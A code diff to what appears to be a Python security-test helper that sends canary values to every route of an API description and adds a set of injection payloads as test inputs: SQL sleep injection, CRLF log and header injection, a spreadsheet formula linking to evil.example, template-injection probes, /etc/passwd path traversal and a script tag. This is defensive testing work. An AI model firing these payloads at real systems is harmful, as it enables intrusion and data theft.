@@ -1,6 +1,6 @@
 """Requests to every route that carry what must not be repeated, in every place that takes a value, good and bad."""
 
-from collections.abc import Iterator, Mapping
+from collections.abc import Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
 from typing import Any
 from urllib.parse import quote
@@ -9,6 +9,10 @@ from uuid import uuid4
 import orjson
 
 JSON, FORM = "application/json", "application/x-www-form-urlencoded"
+FORGED = "forged"
+CALCULATED = str(7 * 191)
+"""What a template would have made of its text."""
+
 METHODS_WITH_BODY = {"POST", "PUT", "PATCH"}
 
 
@@ -31,6 +35,19 @@ class Canaries:
             "recovery code": f"{self.mark.upper()}-ABCD-EFGH",
         }
 
+    @property
+    def hostile(self) -> Mapping[str, str]:
+        """The same, as what would be code elsewhere."""
+        return {
+            "SQL": f"{self.mark}'; SELECT pg_sleep(30); --",
+            "another line of a log": f'{self.mark}\r\n{{"event": "{FORGED}", "level": "info"}}',
+            "another header": f"{self.mark}\r\nSet-Cookie: {FORGED}=1",
+            "formula of a spreadsheet": f'=HYPERLINK("http://evil.example/{self.mark}")',
+            "template": f"{self.mark}{{{{7*191}}}}${{7*191}}<%= 7*191 %>{{0.__class__}}%n",
+            "path": f"../../../../../../etc/passwd/{self.mark}",
+            "script": f"<script>alert('{self.mark}')</script>",
+        }
+
 
 @dataclass(frozen=True, slots=True)
 class Attempt:
@@ -43,40 +60,40 @@ class Attempt:
     headers: Mapping[str, str] = field(default_factory=dict)
 
 
-def attempts(document: Mapping[str, Any], canaries: Canaries) -> Iterator[Attempt]:
-    """Every operation of a document, with canaries in path, query, headers and body, well-formed and not."""
+def attempts(document: Mapping[str, Any], values: Sequence[str]) -> Iterator[Attempt]:
+    """Every operation of a document, with values in path, query, headers and body, well-formed and not."""
     for template, operations in document["paths"].items():
         for method, operation in operations.items():
-            yield from _of_operation(document, template, method.upper(), operation, canaries)
+            yield from _of_operation(document, template, method.upper(), operation, values)
 
 
 def _of_operation(
-    document: Mapping[str, Any], template: str, method: str, operation: Mapping[str, Any], canaries: Canaries
+    document: Mapping[str, Any], template: str, method: str, operation: Mapping[str, Any], values: Sequence[str]
 ) -> Iterator[Attempt]:
     route = f"{method} {template}"
     parameters = [each for each in operation.get("parameters", []) if "name" in each]
     named = {each["name"]: str(uuid4()) for each in parameters if each["in"] == "path"} | {"name": "resources"}
     path = template.format_map({**named, "position": 1, "role": "auditor", "action": "pause"})
-    for value in canaries.values.values():
+    for value in values:
         yield Attempt(route, method, template.format_map({name: quote(value, safe="") for name in (*named, "action")}))
         for name in [*(each["name"] for each in parameters if each["in"] == "query"), "unknown"]:
             yield Attempt(route, method, f"{path}?{name}={quote(value)}")
-        yield Attempt(route, method, path, headers={"Authorization": f"Bearer {value}"})
+        if value.isprintable():
+            yield Attempt(route, method, path, headers={"Authorization": f"Bearer {value}"})
     for header in ("Idempotency-Key", "If-Match", "Consistency-Token", "If-None-Match", "Prefer", "Cookie"):
-        yield Attempt(route, method, path, headers={header: canaries.values["token"]})
-    yield Attempt(route, method, path, headers={"Authorization": f"Basic {canaries.values['token']}"})
+        yield Attempt(route, method, path, headers={header: values[0]})
     if method in METHODS_WITH_BODY:
-        for content, media_type in _bodies(document, operation, canaries):
+        for content, media_type in _bodies(document, operation, values):
             yield Attempt(route, method, path, content, {"Content-Type": media_type})
 
 
 def _bodies(
-    document: Mapping[str, Any], operation: Mapping[str, Any], canaries: Canaries
+    document: Mapping[str, Any], operation: Mapping[str, Any], values: Sequence[str]
 ) -> Iterator[tuple[bytes, str]]:
     """What the document shows with a canary in one place after the other; besides, what can be read as nothing."""
     shown = operation.get("requestBody", {}).get("content", {JSON: {}})
     for media_type, media in shown.items():
-        for value in canaries.values.values():
+        for value in values:
             for body in _spoiled(document, media, value):
                 yield _written(body, media_type), media_type
             for broken in (f'{{"a": "{value}"', f'"{value}"', f'["{value}"]', value, f'{{"a": {value}}}'):
